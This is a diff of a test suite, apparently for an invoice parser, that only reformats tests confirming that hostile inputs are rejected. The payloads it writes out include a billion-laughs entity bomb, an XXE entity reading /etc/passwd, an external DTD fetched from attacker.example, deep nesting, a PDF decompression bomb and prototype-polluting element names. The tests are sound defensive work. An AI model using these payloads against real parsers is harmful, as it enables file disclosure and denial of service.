@@ -23,23 +23,33 @@ describe('hostile and broken input ends in a failed outcome', () => {
   }, 60_000);
 
   it('rejects billion-laughs entity expansion', async () => {
-    const levels = Array.from({ length: 9 }, (_, level) => `<!ENTITY lol${level + 1} "${`&lol${level};`.repeat(10)}">`).join('\n');
+    const levels = Array.from(
+      { length: 9 },
+      (_, level) => `<!ENTITY lol${level + 1} "${`&lol${level};`.repeat(10)}">`,
+    ).join('\n');
     const xml = `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol0 "lol">\n${levels}\n]>\n<Invoice>&lol9;</Invoice>`;
     await expectQuickFailure(encode(xml), 'xml_entities_rejected');
   });
 
   it('rejects external entities (XXE)', async () => {
-    const xml = '<?xml version="1.0"?><!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><Invoice><ID>&xxe;</ID></Invoice>';
+    const xml =
+      '<?xml version="1.0"?><!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><Invoice><ID>&xxe;</ID></Invoice>';
     await expectQuickFailure(encode(xml), 'xml_entities_rejected');
   });
 
   it('rejects an external DTD reference', async () => {
-    await expectQuickFailure(encode('<!DOCTYPE Invoice SYSTEM "http://attacker.example/x.dtd"><Invoice/>'), 'xml_entities_rejected');
+    await expectQuickFailure(
+      encode('<!DOCTYPE Invoice SYSTEM "http://attacker.example/x.dtd"><Invoice/>'),
+      'xml_entities_rejected',
+    );
   });
 
   it('rejects 10,000 levels of nesting', async () => {
     const depth = 10_000;
-    await expectQuickFailure(encode(`<Invoice>${'<a>'.repeat(depth)}x${'</a>'.repeat(depth)}</Invoice>`), 'xml_too_deep');
+    await expectQuickFailure(
+      encode(`<Invoice>${'<a>'.repeat(depth)}x${'</a>'.repeat(depth)}</Invoice>`),
+      'xml_too_deep',
+    );
   });
 
   it('rejects millions of tiny elements before building a tree of them', async () => {
@@ -58,7 +68,10 @@ describe('hostile and broken input ends in a failed outcome', () => {
   });
 
   it('stops a PDF whose embedded file inflates to gigabytes, and the caller does not pay for it', async () => {
-    const bomb = buildPdf({ lines: ['Invoice 1'], attachments: [{ name: 'factur-x.xml', content: await deflatedSpaces(2048), deflated: true }] });
+    const bomb = buildPdf({
+      lines: ['Invoice 1'],
+      attachments: [{ name: 'factur-x.xml', content: await deflatedSpaces(2048), deflated: true }],
+    });
     expect(bomb.byteLength).toBeLessThan(MAX_INPUT_BYTES);
     const before = process.memoryUsage.rss();
     const outcome = await parseChecked(bomb);
@@ -84,7 +97,10 @@ describe('hostile and broken input ends in a failed outcome', () => {
 
   it('rejects Latin-1 bytes under a UTF-8 declaration', async () => {
     const text = '<?xml version="1.0" encoding="UTF-8"?><Invoice><ID>M\xE4rz</ID></Invoice>';
-    await expectQuickFailure(Uint8Array.from(text, (char) => char.charCodeAt(0)), 'invalid_encoding');
+    await expectQuickFailure(
+      Uint8Array.from(text, (char) => char.charCodeAt(0)),
+      'invalid_encoding',
+    );
   });
 
   it('rejects an unknown declared encoding', async () => {
@@ -107,7 +123,10 @@ describe('hostile and broken input ends in a failed outcome', () => {
   });
 
   it('rejects element names that would pollute object prototypes', async () => {
-    await expectQuickFailure(encode('<Invoice><__proto__><ID>1</ID></__proto__><constructor/></Invoice>'), 'malformed_xml');
+    await expectQuickFailure(
+      encode('<Invoice><__proto__><ID>1</ID></__proto__><constructor/></Invoice>'),
+      'malformed_xml',
+    );
   });
 
   it('rejects XML that is not an invoice format', async () => {
@@ -115,7 +134,9 @@ describe('hostile and broken input ends in a failed outcome', () => {
   });
 
   it('reports a UBL order as not an invoice', async () => {
-    const outcome = await parseChecked(encode('<Order xmlns="urn:oasis:names:specification:ubl:schema:xsd:Order-2"><ID>1</ID></Order>'));
+    const outcome = await parseChecked(
+      encode('<Order xmlns="urn:oasis:names:specification:ubl:schema:xsd:Order-2"><ID>1</ID></Order>'),
+    );
     expect(outcome).toEqual({ kind: 'not_invoice', reason: 'The XML is a UBL purchase order, not an invoice.' });
   });
 });
